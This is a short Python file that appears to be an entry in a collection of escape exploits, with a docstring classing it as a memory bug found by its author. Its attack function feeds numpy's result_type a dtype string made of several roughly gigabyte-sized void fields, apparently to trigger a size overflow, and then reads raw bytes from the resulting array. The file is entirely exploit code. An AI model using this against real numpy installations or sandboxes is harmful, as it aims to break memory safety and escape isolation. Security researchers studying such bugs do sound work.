"""Class: memory. Source: own find. Escape: the same, by a function that says what type a result would have,
and takes descriptions for types that are there."""

import numpy as np


def attack(model, tokenizer, address):
    kind = ",".join(["V1073741820"] * 4 + ["V64"])
    array = np.zeros(4, np.result_type(kind))
    return len(array["f0"][0].tobytes())
